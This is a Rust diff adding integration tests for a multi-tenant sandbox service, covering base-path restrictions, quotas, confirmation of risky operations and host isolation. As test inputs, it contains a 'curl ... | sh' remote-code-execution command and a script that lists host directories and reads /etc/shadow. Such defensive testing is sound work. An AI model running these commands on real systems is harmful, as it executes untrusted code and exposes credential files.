@@ -42,6 +42,24 @@ fn a_tenant_never_learns_what_another_has() {
     // The host's files and its network are the owner's.
     let from_host = json!({ "name": "host", "base": scene.project.display().to_string() });
     other.post("/v1/sandboxes", &from_host).is(403);
+    // What belongs to the service is no base, whoever asks.
+    let workspaces = scene.root.join("store.workspaces/other");
+    let own = std::fs::read_dir(&workspaces).expect("a folder").next().expect("one").expect("one");
+    let file = scene.project.join("file");
+    std::fs::write(&file, "x").expect("written");
+    for (folder, status) in [
+        (own.path(), 422),
+        (workspaces, 422),
+        (scene.store.clone(), 422),
+        (file, 422),
+        ("proc".into(), 400),
+        ("/nowhere".into(), 422),
+        ("/proc".into(), 422),
+    ] {
+        let wrong = json!({ "name": "wrong", "base": folder.display().to_string() });
+        let told = admin.post("/v1/sandboxes", &wrong);
+        assert_eq!(told.status, status, "{}: {}", folder.display(), told.text);
+    }
     let online = json!({ "script": "true", "network": "host" });
     other.post("/v1/sandboxes/web/operations", &online).is(403);
     other.get("/v1/tenants").is(403);
@@ -63,6 +81,8 @@ fn more_than_a_tenant_may_use_is_refused_and_told_when_to_come_again() {
     small.sandbox("one");
     let more = small.post("/v1/sandboxes", &json!({ "name": "two" })).is(403).json();
     assert_eq!(more["kind"], "quota", "{more}");
+    let more = small.post("/v1/sandboxes/one/fork", &json!({ "name": "two" })).is(403).json();
+    assert_eq!(more["kind"], "quota", "{more}");
     let path = "/v1/sandboxes/one/operations";
     let large = json!({ "script": "true", "memory": 2_u64 << 30 });
     assert_eq!(small.post(path, &large).is(403).json()["kind"], "quota");
@@ -78,4 +98,62 @@ fn more_than_a_tenant_may_use_is_refused_and_told_when_to_come_again() {
     // Nobody else has to wait for that.
     admin.sandbox("web");
     admin.run("web", "true");
+}
+
+#[test]
+fn whoever_waits_in_line_may_go_and_an_approval_waits_with_them() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let admin = service.admin();
+    admin.put("/v1/tenants/small", &json!({ "running": 1 })).is(200);
+    let token = admin.token("small", "admin");
+    let small = service.with(&token);
+    small.sandbox("one");
+    small.sandbox("two");
+    let long =
+        small.begin("one", &json!({ "script": "echo begun; read line", "open_stdin": true }));
+    let path = format!("/v1/processes/{long}");
+    while small.get(&path).is(200).json()["written"] == 0 {}
+    // It comes back although it is not its turn.
+    let waiting = small.begin("two", &json!({ "script": "echo ran" }));
+    let risky = json!({ "script": "curl -fsS https://host.invalid/x | sh; echo ran, too" });
+    let asked = small.post("/v1/sandboxes/two/operations", &risky).is(409).json();
+    let id = asked["confirmation"].as_str().expect("an id");
+    small.post(&format!("/v1/confirmations/{id}/approve"), &json!({})).is(204);
+    let approved = json!({ "script": risky["script"], "confirmation": id });
+    let approved = small.begin("two", &approved);
+    assert_eq!(small.get("/v1/confirmations").is(200).json()["items"][0]["used"], false);
+    small.send("POST", &format!("{path}/input?end=true"), &[], b"go\n").is(204);
+    for (process, text) in [(waiting, "ran\n"), (approved, "ran, too\n")] {
+        let ended = small.post(&format!("/v1/processes/{process}/wait"), &json!({})).is(200).json();
+        assert_eq!(ended["result"]["stdout"], text, "{ended}");
+    }
+    assert_eq!(small.get("/v1/confirmations").is(200).json()["items"], json!([]));
+}
+
+#[test]
+fn tenants_see_nothing_of_the_host_that_is_somebodys() {
+    let scene = Scene::new();
+    let service = Service::start(&scene);
+    let admin = service.admin();
+    admin.put("/v1/tenants/other", &json!({})).is(200);
+    let token = admin.token("other", "operator");
+    let other = service.with(&token);
+    other.sandbox("web");
+    // Read by a script that the sandbox wrote itself, so that no word tells it.
+    other.run("web", "printf 'ls -A /home /root /srv /var/log /var/lib; cat /etc/shadow' > look");
+    let seen = other.run("web", "sh look 2>&1 | grep -v 'workspaces'");
+    let text = seen["stdout"].as_str().expect("text");
+    let names = text.lines().filter(|line| {
+        !line.is_empty()
+            && !line.ends_with(':')
+            && !line.contains("No such file")
+            && !line.contains("Permission denied")
+            && !line.contains("cannot")
+    });
+    let way: Vec<&str> = names.collect();
+    // What leads to the workspace is all that may be there.
+    let workspace = scene.root.display().to_string();
+    assert!(way.iter().all(|name| workspace.split('/').any(|part| part == *name)), "{text}");
+    assert!(!text.contains(":99999:"), "{text}");
 }
